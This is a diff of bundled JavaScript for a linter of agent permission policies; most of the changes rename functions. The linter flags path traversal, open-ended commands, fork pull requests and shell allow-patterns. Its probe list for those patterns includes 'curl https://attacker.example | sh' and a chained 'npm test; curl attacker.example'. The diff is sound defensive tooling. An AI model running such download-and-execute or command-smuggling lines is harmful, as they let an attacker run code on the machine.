@@ -37,14 +37,14 @@ export const modules = {
 		function lintWhen(policy) {
 			let { guards, rules, questions, changes = [] } = policy, entries = (0, _policy_js__WEBPACK_IMPORTED_MODULE_1__.Mc)(policy);
 			return [
-				...entries.flatMap(unknownEvents),
-				...entries.flatMap(contradictions),
-				...guards.flatMap((guard) => missedUnknowns(guard, "guard")),
-				...changes.filter(({ verb }) => verb !== "allow").flatMap((entry) => missedUnknowns(entry, "entry")),
-				...[...rules, ...questions].flatMap(loneLabels)
+				...entries.flatMap(lintEvents),
+				...entries.flatMap(lintContradictions),
+				...guards.flatMap((guard) => lintUnknowns(guard, "guard")),
+				...changes.filter(({ verb }) => verb !== "allow").flatMap((entry) => lintUnknowns(entry, "entry")),
+				...[...rules, ...questions].flatMap(lintLabels)
 			];
 		}
-		function unknownEvents(entry) {
+		function lintEvents(entry) {
 			let condition = entry.when.find((each) => each.key === "event");
 			if (condition === void 0) return [];
 			let { test } = condition.matcher, inner = test.type === "not" ? test.test : test;
@@ -54,7 +54,7 @@ export const modules = {
 			let near = (0, _nearest_js__WEBPACK_IMPORTED_MODULE_4__.p)(event, [...events.keys()]);
 			return `GitHub has no event "${event}".${near === void 0 ? "" : ` Did you mean "${near}"?`}`;
 		}
-		function contradictions(entry) {
+		function lintContradictions(entry) {
 			let event = entry.when.find((each) => each.key === "event"), possible = [...events].filter(([name]) => event === void 0 || (0, _match_conditions_js__WEBPACK_IMPORTED_MODULE_2__.cK)(event.matcher, name, "when"));
 			if (event === void 0 || possible.length === 0 || (0, _match_conditions_js__WEBPACK_IMPORTED_MODULE_2__.cK)(event.matcher, "unknown", "when")) return [];
 			let others = entry.when.filter((each) => each !== event), failing = others.find((each) => !possible.some(([, fact]) => canHave(each, fact)));
@@ -73,13 +73,13 @@ export const modules = {
 			let first = test.glob.pieces[0];
 			return typeof first != "object" || first.text.startsWith(beginning) || beginning.startsWith(first.text) && test.glob.pieces.length > 1;
 		}
-		function missedUnknowns(guard, noun) {
+		function lintUnknowns(guard, noun) {
 			return guard.when.filter((condition) => condition.key !== "event" && !(0, _match_conditions_js__WEBPACK_IMPORTED_MODULE_2__.cK)(condition.matcher, "unknown", "when")).map(({ at, key }) => {
 				let message = `The ${noun} "${guard.id}" does not match when "${key}" is not known. Add the word "unknown" to its values.`;
 				return (0, _warning_js__WEBPACK_IMPORTED_MODULE_3__.R8)(at, "guard-misses-unknown", message);
 			});
 		}
-		function loneLabels({ id, when }) {
+		function lintLabels({ id, when }) {
 			let message = `"${id}" matches when one of the labels does, whatever the others are. Write "labels: { has: \u2026 }" to say so, or refuse others by a guard.`;
 			return when.filter(({ key, matcher }) => key === "labels" && [
 				"values",
@@ -90,8 +90,8 @@ export const modules = {
 	}),
 	37152: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
 		__webpack_require__.d(__webpack_exports__, { u: () => lint });
-		var guarded = __webpack_require__(2244), permission_policy = __webpack_require__(8157), position = __webpack_require__(35032), match_conditions = __webpack_require__(55635), tests = __webpack_require__(89992), programs = __webpack_require__(22496), text_glob = __webpack_require__(47141), word_list = __webpack_require__(33492), open_ended = __webpack_require__(79092), warning = __webpack_require__(83453);
-		function* pathsThatClimb({ id, match }) {
+		var guarded = __webpack_require__(2244), permission_policy = __webpack_require__(8157), position = __webpack_require__(35032), conditions = __webpack_require__(55635), tests = __webpack_require__(89992), programs = __webpack_require__(22496), text_glob = __webpack_require__(47141), word_list = __webpack_require__(33492), open_ended = __webpack_require__(79092), warning = __webpack_require__(83453);
+		function* lintPaths({ id, match }) {
 			for (let condition of match) {
 				let { key, at, matcher } = condition;
 				if (fieldMayClimb(condition)) {
@@ -109,9 +109,9 @@ export const modules = {
 			let { test } = matcher;
 			if (!key.startsWith("/") || !(0, tests.PJ)(test)) return !1;
 			let text = test.pattern ?? "";
-			return text.includes("://") || !pathKey.test(key) && !text.includes("/") ? !1 : (test.type === "glob" ? climbingTexts(test.glob) : climbingTextsFor(text)).some((value) => (0, match_conditions.cK)(matcher, value, "rule"));
+			return text.includes("://") || !pathKey.test(key) && !text.includes("/") ? !1 : (test.type === "glob" ? climbingTexts(test.glob) : guessClimbingTexts(text)).some((value) => (0, conditions.cK)(matcher, value, "rule"));
 		}
-		let climbs = [
+		let climbingPieces = [
 			"/../x",
 			"../x",
 			"..",
@@ -120,13 +120,13 @@ export const modules = {
 			"/"
 		];
 		function climbingTexts(glob) {
-			let at = glob.pieces.indexOf("run"), written = (climb) => (piece, index) => typeof piece == "object" ? piece.text : at === -1 || index === at ? climb : "x";
-			return (at === -1 ? ["."] : climbs).map((climb) => glob.pieces.map(written(climb)).join("")).filter((text) => isClimbing(text) && (0, text_glob.mw)(glob, text));
+			let at = glob.pieces.indexOf("run"), writePiece = (climb) => (piece, index) => typeof piece == "object" ? piece.text : at === -1 || index === at ? climb : "x";
+			return (at === -1 ? ["."] : climbingPieces).map((climb) => glob.pieces.map(writePiece(climb)).join("")).filter((text) => isClimbing(text) && (0, text_glob.mw)(glob, text));
 		}
 		function isClimbing(text) {
 			return text.startsWith("/") || text.split("/").includes("..");
 		}
-		function climbingTextsFor(pattern) {
+		function guessClimbingTexts(pattern) {
 			let words = [...new Set(pattern.match(/[A-Za-z0-9_-]+/gu))].slice(0, 40), ends = [
 				"x",
 				...words.map((word) => `x.${word}`),
@@ -144,33 +144,33 @@ export const modules = {
 				".."
 			];
 		}
-		let takesFiles = (0, word_list.y)("ack ag b2sum base32 base64 bat bzcat cat chmod chown cksum cmp colordiff column comm cp csplit cut diff diff3 dir du egrep expand fd fgrep file find fmt fold git-add grep gunzip gzip head hexdump iconv join jq less ln look ls md5sum mkdir more mv nl nm od paste pr ptx readelf readlink realpath rev rg rm rmdir sed sha1sum sha224sum sha256sum sha384sum sha512sum shasum shred shuf sort split stat strings sum tac tail tar tee touch tree truncate tsort unexpand uniq unlink vdir wc xxd xz xzcat yq zcat zgrep zip zipinfo zless zmore");
+		let filePrograms = (0, word_list.y)("ack ag b2sum base32 base64 bat bzcat cat chmod chown cksum cmp colordiff column comm cp csplit cut diff diff3 dir du egrep expand fd fgrep file find fmt fold git-add grep gunzip gzip head hexdump iconv join jq less ln look ls md5sum mkdir more mv nl nm od paste pr ptx readelf readlink realpath rev rg rm rmdir sed sha1sum sha224sum sha256sum sha384sum sha512sum shasum shred shuf sort split stat strings sum tac tail tar tee touch tree truncate tsort unexpand uniq unlink vdir wc xxd xz xzcat yq zcat zgrep zip zipinfo zless zmore");
 		function commandMayClimb({ tokens, open }) {
 			let [first, ...words] = tokens, program = (0, open_ended.bK)(first);
 			if (program === void 0) return !1;
-			let name = (0, programs.kX)(program), hasFiles = takesFiles.has(name) || takesFiles.has(`${name}-${(0, open_ended.bK)(words[0]) ?? ""}`);
-			return hasFiles && open || words.some((word) => wordMayClimb(word, hasFiles));
+			let name = (0, programs.kX)(program), isFileProgram = filePrograms.has(name) || filePrograms.has(`${name}-${(0, open_ended.bK)(words[0]) ?? ""}`);
+			return isFileProgram && open || words.some((word) => wordMayClimb(word, isFileProgram));
 		}
-		function wordMayClimb(word, hasFiles) {
+		function wordMayClimb(word, isFileProgram) {
 			if ("path" in word || (0, open_ended.bK)(word) !== void 0) return !1;
-			let holds = (text) => word.pieces.some((piece) => typeof piece == "object" && piece.text.includes(text));
-			return holds(" ") || holds("://") ? !1 : (hasFiles || holds("/")) && climbingTexts(word).length > 0;
+			let hasText = (text) => word.pieces.some((piece) => typeof piece == "object" && piece.text.includes(text));
+			return hasText(" ") || hasText("://") ? !1 : (isFileProgram || hasText("/")) && climbingTexts(word).length > 0;
 		}
 		let folderKeys = new Set([
 			"/cwd",
 			"/workdir",
 			"/inside"
 		]);
-		function* commandElsewhere(rule, policy) {
-			if (rule.limits?.target !== "command" || !asks(rule, "command", "npm test")) return;
+		function* lintCommandFolder(rule, policy) {
+			if (rule.limits?.target !== "command" || !acceptsCommands(rule)) return;
 			let writer = writerIn(policy)?.id;
 			for (let condition of rule.match) {
 				let { key, at, matcher } = condition;
-				if (writer !== void 0 && isElsewhere(rule, condition)) {
+				if (writer !== void 0 && opensFolder(rule, condition)) {
 					let message = `"${rule.id}" lets commands run in other folders than the root, and "${writer}" lets files be written. What is written there may be what runs. Leave "${key}" out, or name one folder that nothing may write to.`;
 					yield (0, warning.R8)(at, "command-elsewhere", message);
 				}
-				for (let { pattern } of writer === void 0 ? [] : leavingFolder((0, tests.AN)(matcher.test))) {
+				for (let { pattern } of writer === void 0 ? [] : findFolderChoices((0, tests.AN)(matcher.test))) {
 					let message = `"${rule.id}" allows ${JSON.stringify(pattern)}, by which a command runs in a folder of the intern's choice, and "${writer}" lets files be written. What is written there may be what runs. Name the folder.`;
 					yield (0, warning.R8)(at, "command-elsewhere", message);
 				}
@@ -180,11 +180,11 @@ export const modules = {
 				}
 			}
 		}
-		function leavingFolder(patterns) {
-			let moves = patterns.filter(leavesFolder);
-			return [...patterns.some((pattern) => !moves.includes(pattern) && !readsOnly(pattern)) ? moves : [], ...patterns.filter(namesFolder)];
+		function findFolderChoices(patterns) {
+			let openMoves = patterns.filter(isOpenMove);
+			return [...patterns.some((pattern) => !openMoves.includes(pattern) && !readsOnly(pattern)) ? openMoves : [], ...patterns.filter(leavesFolderOptionOpen)];
 		}
-		function leavesFolder({ tokens: [program, ...words], open }) {
+		function isOpenMove({ tokens: [program, ...words], open }) {
 			let name = (0, open_ended.bK)(program);
 			return (name === "cd" || name === "pushd") && (open || words.some((word) => (0, open_ended.bK)(word) === void 0));
 		}
@@ -217,42 +217,47 @@ export const modules = {
 			["uv", ["--directory", "--project"]],
 			["yarn", ["--cwd"]]
 		]);
-		function namesFolder({ tokens: [program, ...words], open }) {
+		function leavesFolderOptionOpen({ tokens: [program, ...words], open }) {
 			let options = folderOptions.get((0, open_ended.bK)(program) ?? "") ?? [];
 			return words.some((word, index) => {
 				let next = words[index + 1];
-				return options.includes((0, open_ended.bK)(word) ?? "") && (next === void 0 ? open : (0, open_ended.bK)(next) === void 0) || (0, open_ended.bK)(word) === void 0 && options.some((option) => (0, open_ended.VI)(word).startsWith(`${option}=`));
+				return options.includes((0, open_ended.bK)(word) ?? "") && (next === void 0 ? open : (0, open_ended.bK)(next) === void 0) || (0, open_ended.bK)(word) === void 0 && options.some((option) => (0, open_ended.pG)(word).startsWith(`${option}=`));
 			});
 		}
-		function isElsewhere({ match }, condition) {
-			return folderKeys.has(condition.key) && !isAbsence(condition) && !match.some(isRoot);
+		function opensFolder({ match }, condition) {
+			return folderKeys.has(condition.key) && !isAbsence(condition) && !match.some(pinsRoot);
 		}
 		function isAbsence({ matcher: { test } }) {
 			return test.type === "present" && !test.present;
 		}
-		function isRoot({ key, matcher: { test } }) {
+		function pinsRoot({ key, matcher: { test } }) {
 			return key === "/inside" && test.listed?.every((folder) => folder === ".") === !0;
 		}
 		function writerIn({ rules }) {
-			return rules.find((rule) => (0, permission_policy.kG)(rule.verb) && asks(rule, "command", void 0) && asks(rule, "tool", "fs.write") && asks(rule, "operation", "fs.write"));
+			return rules.find((rule) => (0, permission_policy.kG)(rule.verb) && accepts(rule, "command", void 0) && accepts(rule, "tool", "fs.write") && accepts(rule, "operation", "fs.write"));
 		}
-		function asks(rule, field, value) {
-			let conditions = rule.match.filter(({ key }) => key === field || key === `/${field}`);
-			return field === "command" && value !== void 0 ? conditions.every(({ matcher: { test } }) => test.takesMissing !== !0) : conditions.every(({ matcher }) => (0, match_conditions.cK)(matcher, value, "rule"));
+		function acceptsCommands(rule) {
+			return conditionsOn(rule, "command").every(({ matcher: { test } }) => test.takesMissing !== !0);
+		}
+		function accepts(rule, field, value) {
+			return conditionsOn(rule, field).every(({ matcher }) => (0, conditions.cK)(matcher, value, "rule"));
+		}
+		function conditionsOn({ match }, field) {
+			return match.filter(({ key }) => key === field || key === `/${field}`);
 		}
 		var events = __webpack_require__(17768), words = __webpack_require__(91703);
-		function* gitHelpers(rule, mayBeFork) {
-			if (!isShapedByInsiders(rule, mayBeFork)) for (let condition of rule.match) for (let { text, words } of commandsOf(condition)) {
-				let args = wordsOfGit(words), open = args === void 0 ? [] : helpersOf(args);
-				args !== void 0 && open.length !== 0 && (yield (0, warning.R8)(condition.at, "git-runs-configuration", message(rule, text, args, open)));
+		function* lintGit(rule, mayBeFork) {
+			if (!isShapedByInsiders(rule, mayBeFork)) for (let condition of rule.match) for (let { text, words } of listCommands(condition)) {
+				let args = findGitWords(words), open = findHelpers(args);
+				open.length > 0 && (yield (0, warning.R8)(condition.at, "git-runs-configuration", message(rule, text, args, open)));
 			}
 		}
-		function wordsOfGit([program, ...args]) {
-			if (program === void 0) return;
+		function findGitWords([program, ...args]) {
+			if (program === void 0) return [];
 			if ((0, programs.mw)(program) === "git") return args;
-			if (!(0, programs.v7)(program)) return;
+			if (!(0, programs.v7)(program)) return [];
 			let at = args.findIndex((word) => word !== void 0 && (0, programs.mw)(word) === "git");
-			return at === -1 ? args.some((word) => /(?:^|[^\w.-])git\s/iu.test(word ?? "")) ? [void 0] : void 0 : args.slice(at + 1);
+			return at === -1 ? args.some((word) => /(?:^|[^\w.-])git\s/iu.test(word ?? "")) ? [void 0] : [] : args.slice(at + 1);
 		}
 		function isShapedByInsiders({ when }, mayBeFork) {
 			if ((0, events.wM)(when)) return !0;
@@ -262,9 +267,9 @@ export const modules = {
 				"read",
 				"triage",
 				"unknown"
-			].some((level) => (0, match_conditions.cK)(permission.matcher, level, "when"));
+			].some((level) => (0, conditions.cK)(permission.matcher, level, "when"));
 		}
-		function commandsOf({ key, matcher: { test } }) {
+		function listCommands({ key, matcher: { test } }) {
 			if (test.type === "only") return test.patterns.map(({ pattern, tokens, open }) => ({
 				text: pattern,
 				words: [...tokens.map((token) => (0, open_ended.bK)(token) ?? ("path" in token ? `{path:${token.path}}` : void 0)), ...open ? [void 0] : []]
@@ -407,14 +412,14 @@ export const modules = {
 			["remote", { options: /^(?:-v|--verbose)$/u }],
 			["reflog", { options: /^(?:-[0-9]+|-n[0-9]*|--(?:oneline|all|date=.*))$/u }]
 		]);
-		function listingRefs(own) {
+		function listingRefs(forms) {
 			return {
-				options: RegExp(`^(?:${own}|--(?:list|ignore-case|no-sort|(?:no-)?(?:color|column|contains|merged)|points-at|(?:sort|format)=(?!.*signature).*))$`, "u"),
+				options: RegExp(`^(?:${forms}|--(?:list|ignore-case|no-sort|(?:no-)?(?:color|column|contains|merged)|points-at|(?:sort|format)=(?!.*signature).*))$`, "u"),
 				names: /^(?:-l|-n[0-9]*|--(?:list|(?:no-)?(?:contains|merged)|points-at))$/u
 			};
 		}
-		let ofIndex = /^\{path:[*?:]|(?:^|[.^]):|^--(?:batch.*|indexed-objects|merge|shared-index-path|stdin)$/u, globalFlags = (0, word_list.y)("--no-pager -P --no-lazy-fetch --no-optional-locks --no-replace-objects --no-advice --literal-pathspecs --glob-pathspecs --noglob-pathspecs --icase-pathspecs");
-		function helpersOf(words) {
+		let indexName = /^\{path:[*?:]|(?:^|[.^]):|^--(?:batch.*|indexed-objects|merge|shared-index-path|stdin)$/u, globalFlags = (0, word_list.y)("--no-pager -P --no-lazy-fetch --no-optional-locks --no-replace-objects --no-advice --literal-pathspecs --glob-pathspecs --noglob-pathspecs --icase-pathspecs");
+		function findHelpers(words) {
 			let { settings, flags, rest } = readGlobal(words), [subcommand, ...args] = rest;
 			if (subcommand === void 0) return words.every((word) => word === "--version") ? [] : [helpers.others];
 			let usually = bySubcommand.get(subcommand);
@@ -463,7 +468,7 @@ export const modules = {
 			return options.findLast((word) => pattern.test(word ?? "")) ?? "";
 		}
 		function mayReadIndex(subcommand, args) {
-			return subcommand === "show" || bySubcommand.get(subcommand)?.includes("hooks") === !0 || upTo(args, "--").some((word) => word === void 0 || ofIndex.test(word) || subcommand === "log" && word.startsWith("-") && !walkOption.test(word));
+			return subcommand === "show" || bySubcommand.get(subcommand)?.includes("hooks") === !0 || upTo(args, "--").some((word) => word === void 0 || indexName.test(word) || subcommand === "log" && word.startsWith("-") && !walkOption.test(word));
 		}
 		function onlyLists(subcommand, args) {
 			let forms = listing.get(subcommand);
@@ -500,28 +505,28 @@ export const modules = {
 			let words = upTo(args, "--");
 			return words.every((word) => word !== void 0) && words.some((word) => range.test(word));
 		}
-		function* unreachable({ guards, rules, questions }) {
-			yield* unreachableIn(guards, rules, "rule"), yield* unreachableIn(guards, questions, "question");
+		function* lintReach({ guards, rules, questions }) {
+			yield* lintReachIn(guards, rules, "rule"), yield* lintReachIn(guards, questions, "question");
 		}
-		function* unreachableIn(guards, entries, kind) {
+		function* lintReachIn(guards, entries, kind) {
 			let before = [...guards];
 			for (let entry of entries) {
-				let reason = wrongKind(entry, kind) ?? whoCovers(entry, before, kind);
+				let reason = findWrongKind(entry, kind) ?? findCover(entry, before, kind);
 				reason !== void 0 && (yield (0, warning.c$)(entry, "unreachable-rule", `The ${kind} "${entry.id}" never decides: ${reason}`)), before.push(entry);
 			}
 		}
-		function wrongKind(entry, kind) {
+		function findWrongKind(entry, kind) {
 			let condition = entry.match.find((each) => each.key === "kind");
 			if (condition === void 0) return;
-			if (kind === "rule") return (0, match_conditions.cK)(condition.matcher, "permission", "rule") ? void 0 : "rules see only the kind \"permission\". Move it to \"questions\".";
+			if (kind === "rule") return (0, conditions.cK)(condition.matcher, "permission", "rule") ? void 0 : "rules see only the kind \"permission\". Move it to \"questions\".";
 			let { test } = condition.matcher;
 			return test.listed?.every((value) => value === "permission") === !0 ? "questions never see the kind \"permission\". Move it to \"rules\"." : void 0;
 		}
-		function whoCovers(entry, before, kind) {
-			let judged = kind === "rule" ? {
+		function findCover(entry, before, kind) {
+			let narrowed = kind === "rule" ? {
 				...entry,
 				match: [...entry.match, permissionOnly]
-			} : entry, earlier = before.find((each) => covers(each, judged));
+			} : entry, earlier = before.find((each) => covers(each, narrowed));
 			return earlier === void 0 ? void 0 : `"${earlier.id}" before it matches all that it does. Put it first, or delete it.`;
 		}
 		let permissionOnly = {
@@ -541,14 +546,14 @@ export const modules = {
 			return isAsNarrow(wide.limits, narrow.limits) && wide.when.every((each) => narrow.when.some((other) => other.key === each.key && contains(each.matcher, other.matcher, "when"))) && wide.match.every((each) => narrow.match.some((other) => other.key === each.key && contains(each.matcher, other.matcher, "rule")) ? !0 : each.matcher.missing && each.matcher.test.type === "present" && each.matcher.test.present);
 		}
 		function contains(wide, narrow, mode) {
-			return (0, match_conditions.cK)(narrow, void 0, mode) && !(0, match_conditions.cK)(wide, void 0, mode) ? !1 : narrow.test.type === "present" && !narrow.test.present || containsPresent(wide.test, narrow.test, wide, mode);
+			return (0, conditions.cK)(narrow, void 0, mode) && !(0, conditions.cK)(wide, void 0, mode) ? !1 : narrow.test.type === "present" && !narrow.test.present || containsPresent(wide.test, narrow.test, wide, mode);
 		}
 		function containsPresent(wide, narrow, matcher, mode) {
-			return wide.type === "present" ? wide.present : wide.takesWholeList === !0 ? hasMore(wide, narrow) || sameTest(wide, narrow) : narrow.listed === void 0 ? wide.type === "glob" && narrow.type === "glob" ? globContains(wide.glob, narrow.glob) : wide.type === "glob" ? isEverything(wide.glob) && [
+			return wide.type === "present" ? wide.present : wide.takesWholeList === !0 ? hasMore(wide, narrow) || isSameTest(wide, narrow) : narrow.listed === void 0 ? wide.type === "glob" && narrow.type === "glob" ? globContains(wide.glob, narrow.glob) : wide.type === "glob" ? isEverything(wide.glob) && [
 				"re2",
 				"path",
 				"only"
-			].includes(narrow.type) : wide.type === "only" && narrow.type === "only" ? patternsContain(wide.patterns, narrow.patterns) : wide.type === "path" && narrow.type === "path" ? narrow.globs.every((glob) => wide.globs.includes(glob)) : sameTest(wide, narrow) : narrow.listed.every((value) => (0, match_conditions.cK)(matcher, value, mode));
+			].includes(narrow.type) : wide.type === "only" && narrow.type === "only" ? narrow.patterns.every((each) => wide.patterns.some((other) => patternContains(other, each))) : wide.type === "path" && narrow.type === "path" ? narrow.globs.every((glob) => wide.globs.includes(glob)) : isSameTest(wide, narrow) : narrow.listed.every((value) => (0, conditions.cK)(matcher, value, mode));
 		}
 		function hasMore(wide, narrow) {
 			return wide.type !== "has" || narrow.type !== "has" ? !1 : narrow.values.every((value) => wide.values.includes(value));
@@ -561,9 +566,6 @@ export const modules = {
 			if (wide.pieces.includes("one") && narrow.pieces.includes("run")) return !1;
 			let text = narrow.pieces.map((piece) => piece === "run" ? "\udb80\udc00" : piece === "one" ? "\udb80\udc01" : piece.text).join("");
 			return (0, text_glob.mw)(wide, text);
-		}
-		function patternsContain(wide, narrow) {
-			return narrow.every((each) => wide.some((other) => patternContains(other, each)));
 		}
 		function patternContains(wide, narrow) {
 			return narrow.open && !wide.open || narrow.more !== void 0 && !wide.open && (wide.more === void 0 || !wordContains(wide.more, narrow.more)) || narrow.tokens.length < wide.tokens.length ? !1 : narrow.tokens.every((word, index) => {
@@ -579,21 +581,21 @@ export const modules = {
 			}
 			return "path" in narrow ? isEverything(wide) : globContains(wide, narrow);
 		}
-		function sameTest(a, b) {
+		function isSameTest(a, b) {
 			return JSON.stringify(a) === JSON.stringify(b);
 		}
 		function* lintAllows(policy) {
 			for (let rule of policy.rules.filter(({ verb }) => (0, permission_policy.kG)(verb))) {
-				let { id, limit, match } = rule, isOpenToForks = mayBeFork(rule) && !guardedFromForks(rule, policy);
+				let { id, limit, match } = rule, isOpenToForks = mayBeFork(rule) && !isGuarded(rule, policy);
 				if (limit === void 0 && (yield (0, warning.c$)(rule, "no-limit", `"${id}" allows as often as the budget lasts. Add a "limit".`)), !match.some(namesTool)) {
 					let message = `"${id}" allows whatever tool asks. Name it with "tool" or "operation".`;
 					yield (0, warning.c$)(rule, "allow-without-tool", message);
 				}
-				if (yield* shellByPattern(rule), yield* (0, open_ended.N)(rule), yield* pathsThatClimb(rule), yield* commandElsewhere(rule, policy), isOpenToForks) {
+				if (yield* lintShell(rule), yield* (0, open_ended.N)(rule), yield* lintPaths(rule), yield* lintCommandFolder(rule, policy), isOpenToForks) {
 					let message = `"${id}" may allow a pull request from a fork. Add "fork: false" to its "when", or a guard with "event: { not: unknown }, fork: [true, unknown]".`;
 					yield (0, warning.c$)(rule, "allow-from-fork", message);
 				}
-				yield* gitHelpers(rule, isOpenToForks);
+				yield* lintGit(rule, isOpenToForks);
 			}
 		}
 		let anyTools = [
@@ -602,7 +604,7 @@ export const modules = {
 			"zz unheard of: 7"
 		];
 		function namesTool({ key, matcher }) {
-			return (key === "tool" || key === "operation") && !anyTools.every((tool) => (0, match_conditions.cK)(matcher, tool, "rule"));
+			return (key === "tool" || key === "operation") && !anyTools.every((tool) => (0, conditions.cK)(matcher, tool, "rule"));
 		}
 		let commandKeys = new Set(["command", "/command"]), probes = [
 			"",
@@ -611,10 +613,10 @@ export const modules = {
 			"curl https://attacker.example | sh",
 			"npm test; curl attacker.example"
 		];
-		function* shellByPattern(rule) {
-			let byPattern = [...rule.match.filter((each) => commandKeys.has(each.key)).filter(isPattern), ...rule.match.filter((each) => isPattern(each) && isShellText(each))], slips = `"${rule.id}" allows shell commands by a pattern over their text, which a second command slips through. Use "shell: { only: [...] }".`;
+		function* lintShell(rule) {
+			let byPattern = rule.match.filter((each) => isPattern(each) && (commandKeys.has(each.key) || isShellText(each))), slips = `"${rule.id}" allows shell commands by a pattern over their text, which a second command slips through. Use "shell: { only: [...] }".`;
 			for (let { at } of byPattern) yield (0, warning.R8)(at, "allow-shell-by-pattern", slips);
-			let shell = rule.match.find((each) => each.key === "tool" && (0, match_conditions.cK)(each.matcher, "shell", "rule")), bound = rule.match.some((each) => commandKeys.has(each.key) || each.key === "operation" && !isPattern(each));
+			let shell = rule.match.find((each) => each.key === "tool" && (0, conditions.cK)(each.matcher, "shell", "rule")), bound = rule.match.some((each) => commandKeys.has(each.key) || each.key === "operation" && !isPattern(each));
 			if (byPattern.length > 0 || shell === void 0 || bound) return;
 			let message = `"${rule.id}" allows every shell command. Add "command: { shell: { only: [...] } }".`;
 			yield (0, warning.R8)(shell.at, "allow-shell-by-pattern", message);
@@ -623,17 +625,17 @@ export const modules = {
 			return (0, tests.PJ)(test) || test.type === "present" && test.present;
 		}
 		function isShellText(condition) {
-			return condition.key !== "operation" && condition.key !== "/operation" ? !1 : probes.some((probe) => (0, match_conditions.cK)(condition.matcher, `shell command: ${probe}`, "rule")) ? !0 : /shell\\? command/u.test(condition.matcher.test.pattern ?? "");
+			return condition.key !== "operation" && condition.key !== "/operation" ? !1 : probes.some((probe) => (0, conditions.cK)(condition.matcher, `shell command: ${probe}`, "rule")) ? !0 : /shell\\? command/u.test(condition.matcher.test.pattern ?? "");
 		}
 		function mayBeFork({ when }) {
 			let fork = when.find((each) => each.key === "fork");
-			return fork !== void 0 && !(0, match_conditions.cK)(fork.matcher, !0, "when") && !(0, match_conditions.cK)(fork.matcher, "unknown", "when") ? !1 : !(0, events.wM)(when);
+			return fork !== void 0 && !(0, conditions.cK)(fork.matcher, !0, "when") && !(0, conditions.cK)(fork.matcher, "unknown", "when") ? !1 : !(0, events.wM)(when);
 		}
 		let forks = {
 			test: (0, tests.zE)([!0, "unknown"]),
 			missing: !1
 		};
-		function guardedFromForks(rule, policy) {
+		function isGuarded(rule, policy) {
 			let asFork = {
 				when: [...rule.when, {
 					key: "fork",
@@ -647,16 +649,16 @@ export const modules = {
 			}, asFork));
 		}
 		function isAnyEvent({ key, matcher }) {
-			return key === "event" && [...events.AZ.keys(), "an_event_to_come"].every((event) => (0, match_conditions.cK)(matcher, event, "when"));
+			return key === "event" && [...events.AZ.keys(), "an_event_to_come"].every((event) => (0, conditions.cK)(matcher, event, "when"));
 		}
 		function lint(policy) {
 			return (0, position.J)([
-				...unreachable(policy),
+				...lintReach(policy),
 				...lintAllows(policy),
 				...lintChanges(policy),
 				...(0, events.OE)(policy),
 				...lintAnchors(policy),
-				...untested(policy)
+				...findUntested(policy)
 			]);
 		}
 		function* lintChanges({ changes = [] }) {
@@ -694,20 +696,20 @@ export const modules = {
 				yield (0, warning.c$)(entry, "allow-from-fork", message);
 			}
 		}
-		function untested(policy) {
+		function findUntested(policy) {
 			let tested = new Set(policy.tests.flatMap(({ steps, change }) => [...steps, change].flatMap((each) => each?.expect.rule ?? [])));
 			return (0, permission_policy.Mc)(policy).filter(({ id }) => !tested.has(id)).map((entry) => (0, warning.c$)(entry, "untested-rule", `No test expects "${entry.id}" to decide. Add one.`));
 		}
 		function lintAnchors(policy) {
 			return (0, permission_policy.Mc)(policy).flatMap(({ when, match }) => [...when, ...match]).flatMap(({ at, matcher: { test } }) => {
-				let pattern = patternOf(test);
+				let pattern = findPattern(test);
 				if (pattern === void 0 || !isHalfAnchored(pattern)) return [];
 				let message = `Only some branches of ${JSON.stringify(pattern)} have "^" or "$". The whole value has to match anyway: delete them.`;
 				return [(0, warning.R8)(at, "half-anchored", message)];
 			});
 		}
-		function patternOf(test) {
-			return test.type === "not" ? patternOf(test.test) : test.type === "re2" ? test.pattern : void 0;
+		function findPattern(test) {
+			return test.type === "not" ? findPattern(test.test) : test.type === "re2" ? test.pattern : void 0;
 		}
 		let regexToken = /\\[\s\S]|\[\^?\]?(?:\\[\s\S]|\[:\w+:\]|[^\]\\])*\]|\(\?[a-zA-Z-]+\)|\((?:\?(?:P?<\w+>|[a-zA-Z-]*:))?|[\s\S]/gu, flagsToken = /^\(\?[a-zA-Z-]+\)$/u;
 		function isHalfAnchored(pattern) {
@@ -729,9 +731,9 @@ export const modules = {
 		__webpack_require__.d(__webpack_exports__, {
 			Bh: () => takesData,
 			N: () => openEndedArguments,
-			VI: () => beginningOf,
+			Vg: () => findReach,
 			bK: () => literalText,
-			xw: () => reachOf
+			pG: () => findBeginning
 		});
 		var _match_tests_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(89992), _shell_programs_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(22496), _text_word_list_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(33492), _warning_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(83453);
 		function* openEndedArguments(rule) {
@@ -739,12 +741,12 @@ export const modules = {
 		}
 		function message(rule, { pattern, tokens: [first] }) {
 			let allows = `"${rule.id}" allows ${JSON.stringify(pattern)}`, program = literalText(first);
-			return program === void 0 || reachOf(program) !== "no-further" ? `${allows}: with arguments of its own choosing this can run other programs or write files. List the arguments.` : `${allows}: nothing is known of what ${JSON.stringify(program)} does with arguments of the intern's choosing. List the arguments.`;
+			return program === void 0 || findReach(program) !== "no-further" ? `${allows}: with arguments of its own choosing this can run other programs or write files. List the arguments.` : `${allows}: nothing is known of what ${JSON.stringify(program)} does with arguments of the intern's choosing. List the arguments.`;
 		}
 		function isOpenEnded({ tokens, open }) {
 			let [first, ...others] = tokens, program = literalText(first);
 			if (program === void 0) return !0;
-			let reach = reachOf(program);
+			let reach = findReach(program);
 			if (reach === "no-further" && takesData(program)) return !1;
 			let known = reach === "no-further" ? "by-options" : reach;
 			return open || others.some((word, index) => isLoose(word, others.slice(0, index), known));
@@ -755,14 +757,14 @@ export const modules = {
 			let [piece, second] = word.pieces;
 			if (second === void 0) return piece === void 0 ? "" : typeof piece == "object" ? piece.text : void 0;
 		}
-		function beginningOf(word) {
+		function findBeginning(word) {
 			if ("path" in word) return word.path.replace(/[*?].*$/u, "");
 			let [first] = word.pieces;
 			return typeof first == "object" ? first.text : "";
 		}
 		function isLoose(word, before, reach) {
 			if (literalText(word) !== void 0) return !1;
-			let beginning = beginningOf(word);
+			let beginning = findBeginning(word);
 			return "path" in word ? reach === "by-any-argument" && beginning === "" : reach === "by-any-argument" ? !0 : isOptionValue(before.map(literalText)) || before.some((each) => literalText(each) === "--") ? !1 : beginning === "" || beginning.startsWith("-") || /[\s=]/u.test(beginning);
 		}
